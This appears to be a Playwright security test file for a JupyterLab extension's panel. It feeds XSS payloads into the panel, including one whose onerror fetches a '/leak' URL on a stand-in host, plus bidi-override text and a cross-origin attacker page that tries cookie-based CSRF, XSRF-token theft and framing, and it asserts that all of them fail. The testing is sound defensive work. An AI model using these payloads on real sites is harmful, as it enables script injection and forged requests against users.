"""Text of others in the panel is text: nothing of it runs, nothing of it makes the panel slow or false; and a page of
another origin neither reads nor steers."""

from __future__ import annotations

import json
import re
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "jupyter"))
import logs
from faces import end_all, quiet_library
from panel import axe, opened, panel, section, shown, until, wide

from jupyter_swarm.workspace import Workspace

if TYPE_CHECKING:
    from playwright.sync_api import Locator, Page

    from tests.browser.labs import Lab

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(240)]

SECTIONS = ("Overview", "Directions", "Findings", "Runs", "Agents", "Papers", "Log")
PAYLOADS = {
    "script": "<script>window.pwned=1</script></title></textarea><script>alert(1)</script>",
    "image": "\"'><img src=x onerror=\"window.pwned=1;fetch('http://127.0.0.1:9/leak')\">",
    "svg": "<svg/onload=window.pwned=1><svg onload=\"window.pwned=1\"><use href='data:image/svg+xml,<svg id=x'/></svg>",
    "link": "javascript:window.pwned=1//[a](javascript:window.pwned=1) <a href=javascript:window.pwned=1>click</a>",
    "markup": "</pre></details><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>${7*7}{{7*7}}%1 %2",
    "turned": "raises accuracy \u202e%001 yb\u202c \u2066\u2067over the baseline\u2069\u2069",
}
SWARMS = {
    "elements": " ".join(PAYLOADS.values()),
    "image": PAYLOADS["image"],
    "turned": PAYLOADS["turned"],
    "long": "A" * 1_000_000,
    "lines": "a line of a metric\n" * 50_000,
}
TURNING = "[\u202a-\u202e\u2066-\u2069]"
PATIENCE = 2.0
"""Seconds in which the panel has to answer a click, whatever it shows."""


@pytest.fixture(scope="module")
def lab(serve: Callable[..., Any], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    """A server with a swarm for each kind of evil text, and papers whose names and titles are such text."""
    with serve("jupyterlab", "lab/tree", tmp_path_factory) as lab:
        quiet_library(lab.folder)
        workspace = Workspace(lab.folder)
        for name, text in SWARMS.items():
            logs.play(workspace.store, logs.hostile(text), name)
        logs.play(workspace.store, logs.wine()[:-1], "wine")
        workspace.store.close()
        yield lab
        end_all(lab.folder)


class Watch:
    """What a page must not do: run others' text, ask, or call somebody else."""

    def __init__(self, page: Page, home: str) -> None:
        self.dialogs: list[str] = []
        self.strangers: list[str] = []
        self.errors: list[str] = []
        self.page = page
        page.on("dialog", self._asked)
        page.on(
            "request", lambda each: None if each.url.startswith((home, "data:", "blob:")) else self._called(each.url)
        )
        page.on("pageerror", lambda each: self.errors.append(str(each)))
        page.on("popup", lambda each: self.strangers.append(each.url))
        page.add_init_script(
            "document.addEventListener('securitypolicyviolation', each => "
            "(window.refused ??= []).push(each.violatedDirective))"
        )

    def _asked(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _called(self, url: str) -> None:
        if not url.startswith(("ws://127.0.0.1", "about:")):
            self.strangers.append(url)

    def quiet(self) -> None:
        """Nothing of it has happened."""
        assert self.page.evaluate("window.pwned") is None
        assert self.page.evaluate("window.refused ?? []") == []
        assert self.dialogs == []
        assert self.strangers == []
        assert self.errors == []
        own = self.page.locator(".jp-Swarm")
        assert own.locator("script, iframe, object, embed, base, form[action]").count() == 0
        assert own.locator("img[src], svg[onload], [onerror], [onclick]").count() == 0
        assert (
            own.locator("a[href]").evaluate_all("nodes => nodes.filter(each => !/^https?:/.test(each.href)).length")
            == 0
        )


def quickly(act: Callable[[], object], what: str) -> None:
    """Do something, which may not take long."""
    began = time.monotonic()
    act()
    took = time.monotonic() - began
    assert took < PATIENCE, f"{what} took {took:.1f} s"


def fits(page: Page) -> None:
    """Nothing sticks out of the panel, and no text turns the direction of what follows."""
    wide_ones = panel(page).evaluate("""node => {
        const edge = node.getBoundingClientRect().right + 1;
        const clipped = each => each.closest('.jp-Swarm-grid, pre, .cm-editor, .u-wrap, .jp-Swarm-hidden');
        const spills = each => each.clientWidth > 0 && each.scrollWidth > each.clientWidth + 2
            && getComputedStyle(each).overflowX === 'visible';
        return [...node.querySelectorAll('*')]
            .filter(each => !clipped(each) && (each.getBoundingClientRect().right > edge || spills(each)))
            .map(each => `${each.tagName}.${each.className} ${each.outerHTML.slice(0, 300)}`).slice(0, 5);
    }""")
    assert wide_ones == []
    turned = panel(page).evaluate("""(node, pattern) => {
        const turning = new RegExp(pattern);
        const named = each => ['title', 'aria-label', 'aria-valuetext'].map(key => each.getAttribute(key) ?? '').join();
        const all = [...node.querySelectorAll('*')];
        const own = each => [...each.childNodes].filter(one => one.nodeType === 3).map(one => one.data).join();
        return all.filter(each => turning.test(own(each)) || turning.test(named(each)))
            .map(each => each.outerHTML.slice(0, 300)).slice(0, 5);
    }""", TURNING)  # fmt: skip
    assert turned == []


@pytest.mark.parametrize("name", list(SWARMS))
def test_text_of_others_is_text(page: Page, lab: Lab, name: str, shot: Callable[..., Path]) -> None:
    watch = Watch(page, lab.url)
    opened(page, lab)
    wide(page, 320)
    fits(page)
    shown(page, name)
    for each in SECTIONS:
        tab = panel(page).get_by_role("tab", name=each)
        quickly(partial(tab.click), f"a click on {each}")
        here = panel(page).get_by_role("tabpanel", name=each)
        until(lambda here=here: here.locator(".jp-Swarm-loading").count() == 0 and here.inner_text(), what=each)
        assert here.get_by_text("This part of the panel failed").count() == 0, each
        for fold in here.locator("summary").all()[:6]:
            quickly(partial(fold.click), f"unfolding in {each}")
        quickly(partial(here.evaluate, "node => { node.scrollIntoView(false); return node.scrollHeight }"), "scrolling")
        fits(page)
        if name in ("image", "long"):
            shot(f"attacks-{name}-{each.lower()}")
    words = {"turned": "raises accuracy", "lines": "a line of a metric"}.get(name, SWARMS[name][:40])
    section(page, "Log").get_by_text(words).first.wait_for()
    axe(page)
    watch.quiet()


@pytest.mark.parametrize("name", ["image", "long"])
def test_a_run_its_code_and_a_difference_of_such_text(
    page: Page, lab: Lab, name: str, shot: Callable[..., Path]
) -> None:
    watch = Watch(page, lab.url)
    opened(page, lab)
    wide(page, 320)
    shown(page, name)
    here = section(page, "Runs")
    last = here.locator('[aria-rowindex="2"]')
    first = here.get_by_role("searchbox", name="Words in a run")
    first.fill("HY")
    quickly(partial(last.dblclick), "opening a run")
    closer = here.get_by_role("article")
    closer.get_by_text("Traceback").wait_for()
    trace = closer.locator("pre")
    trace.wait_for()
    assert trace.inner_text()[:20] == SWARMS[name][:20]
    assert len(trace.inner_text()) <= 20_001
    fits(page)
    shot(f"attacks-run-{name}")
    axe(page)
    closer.get_by_role("button", name="Compare with the baseline").click()
    main = page.locator("#jp-main-dock-panel")
    main.locator(".cm-mergeView").wait_for()
    quickly(partial(panel(page).get_by_role("tab", name="Overview").click), "a click beside the difference")
    watch.quiet()


def test_papers_whose_names_and_titles_are_such_text(page: Page, lab: Lab, shot: Callable[..., Path]) -> None:
    watch = Watch(page, lab.url)
    evil = PAYLOADS["image"].replace("/", "\u2215")
    file = lab.folder / f"{evil[:80]}.md"
    file.write_text(
        f"# {PAYLOADS['script']}\n\n{PAYLOADS['svg']} regularization {PAYLOADS['link']}\n" * 3, encoding="utf-8"
    )
    opened(page, lab)
    wide(page, 320)
    shown(page, "image")
    here = section(page, "Papers")
    transfer = page.evaluate_handle(
        """([name, text]) => {
            const data = new DataTransfer();
            data.items.add(new File([text], name));
            data.items.add(new File(['x'], name.replace(/\\.md$/, '.exe')));
            return data;
        }""",
        [file.name, file.read_text(encoding="utf-8")],
    )
    here.get_by_role("region", name="Add papers").dispatch_event("drop", {"dataTransfer": transfer})
    adding = panel(page).locator(".jp-Swarm-adding li")
    until(lambda: adding.filter(has_text=re.compile("added|refused")).count() == 2, 60, "both outcomes")
    path = here.get_by_label("Add by path, pattern or module:NAME")
    path.fill(file.name)
    path.press("Enter")
    path.fill(PAYLOADS["svg"])
    path.press("Enter")
    until(lambda: adding.filter(has_text=re.compile("added|refused|already")).count() == 4, 60, "all outcomes")
    search = here.get_by_role("searchbox", name="What to look for in the papers")
    search.fill("regularization")
    search.press("Enter")
    here.get_by_text(re.compile(r"passages? found")).wait_for()
    fits(page)
    axe(page)
    shot("attacks-papers")
    here.locator(".jp-Swarm-hits li").first.get_by_role("button").click()
    page.locator("#jp-main-dock-panel mark").first.wait_for()
    assert PAYLOADS["svg"][:20] in page.locator("#jp-main-dock-panel .jp-Swarm-reader").inner_text()
    shot("attacks-reader")
    watch.quiet()


def test_the_page_and_the_routes_keep_their_policy(page: Page, lab: Lab) -> None:
    answer = page.goto(f"{lab.url}/lab?reset&token={lab.token}")
    assert answer is not None
    assert "frame-ancestors 'self'" in answer.headers["content-security-policy"]
    route = page.request.get(f"{lab.url}/jupyter-swarm/api/swarms", headers={"Authorization": f"token {lab.token}"})
    assert route.ok
    assert "frame-ancestors 'self'" in route.headers["content-security-policy"]
    assert "default-src 'none'" in route.headers["content-security-policy"]
    assert route.headers["x-content-type-options"] == "nosniff"
    asked_by = page.request.get(f"{lab.url}/jupyter-swarm/api/swarms", headers={"Origin": "http://127.0.0.1:9"})
    assert not asked_by.headers.get("access-control-allow-origin"), "whoever comes with cookies alone"


# ---------------------------------------------------------------- another origin

EVIL = """<!doctype html><meta charset=utf-8><title>another origin</title><script>
const lab = LAB;
const xsrf = (document.cookie.match(/_xsrf=([^;]+)/) ?? [])[1] ?? '';
async function tried(path, options) {
  try {
    const answer = await fetch(lab + path, { credentials: 'include', ...options });
    return { status: answer.status, text: await answer.text() };
  } catch (error) {
    return { status: 0, text: String(error) };
  }
}
const ask = JSON.stringify({ verb: 'priority', target: 'D1', value: 4.5, id: 'evil' });
const way = '/jupyter-swarm/api/swarms/wine/requests?folder=';
async function all() {
  const found = {};
  found.read = await tried('/jupyter-swarm/api/swarms?folder=', {});
  found.silent = await tried('/jupyter-swarm/api/swarms?folder=', { mode: 'no-cors' });
  found.plain = await tried(way, { method: 'POST', body: ask, headers: { 'Content-Type': 'text/plain' } });
  found.blind = await tried(way, { method: 'POST', mode: 'no-cors', body: ask });
  found.forged = await tried(way + '&_xsrf=' + xsrf, { method: 'POST', mode: 'no-cors', body: ask });
  found.json = await tried(way, { method: 'POST', body: ask,
    headers: { 'Content-Type': 'application/json', 'X-XSRFToken': xsrf } });
  const paper = '/jupyter-swarm/api/papers/files/evil.md?folder=&_xsrf=' + xsrf;
  found.put = await tried(paper, { method: 'PUT', body: '# evil' });
  found.xsrf = xsrf;
  return found;
}
</script><iframe name=sink></iframe><iframe id=lab></iframe>
<form id=form method=post enctype=text/plain target=sink><input name=IN value='x"}'></form>"""


@contextmanager
def stranger(lab: Lab) -> Iterator[str]:
    """A web server of somebody else on another port of loopback, where the browser sends the same cookies."""
    body = EVIL.replace("LAB", json.dumps(lab.url)).encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_a_page_of_another_origin_neither_reads_nor_steers(page: Page, lab: Lab) -> None:
    opened(page, lab)
    shown(page, "wine")
    assert any(each["name"].startswith("username-") for each in page.context.cookies()), "the person is logged in"
    with stranger(lab) as address:
        other = page.context.new_page()
        other.goto(address)
        found = other.evaluate("all()")
        assert found["xsrf"], "even with the token in its hands, for cookies know no ports"
        for way in ("read", "plain", "json", "put"):
            assert found[way]["status"] == 0, f"{way}: {found[way]}"
        for way in ("silent", "blind", "forged"):
            assert found[way] == {"status": 0, "text": ""}, f"{way} is opaque at the most: {found[way]}"
        way = f"{lab.url}/jupyter-swarm/api/swarms/wine/requests?folder=&_xsrf={found['xsrf']}"
        field = '{"verb":"stop","x":"'
        with other.expect_response(lambda each: "/requests" in each.url) as answered:
            other.evaluate(
                """([way, field]) => {
                    const form = document.getElementById('form');
                    form.action = way;
                    form.elements.IN.name = field;
                    form.submit();
                }""",
                [way, field],
            )
        assert answered.value.status in (403, 404, 415), answered.value.status
        other.evaluate("url => { document.getElementById('lab').src = url }", f"{lab.url}/lab?token={lab.token}")
        other.wait_for_timeout(2000)
        framed = [each for each in other.frames if each.parent_frame and "/lab" in each.url]
        assert not any(each.locator(".jp-LabShell").count() for each in framed), "it cannot be framed"
        other.close()
    workspace = Workspace(lab.folder)
    events = [each.event for each in workspace.store.read(swarm="wine")]
    steered = (logs.e.SteeringRequested, logs.e.StopRequested, logs.e.PauseRequested)
    assert not [each for each in events if isinstance(each, steered)]
    workspace.store.close()
    assert not list(lab.folder.glob("papers/evil*"))
    slider: Locator = section(page, "Directions").get_by_role("slider").first
    before = float(slider.input_value())
    slider.press("ArrowRight")
    workspace = Workspace(lab.folder)

    def heard() -> list[Any]:
        found = [each.event for each in workspace.store.read(swarm="wine")]
        return [each.value for each in found if isinstance(each, logs.e.SteeringRequested)]

    until(heard, what="the person's own request, of their own page")
    assert heard() == [before + 0.5]
    workspace.store.close()
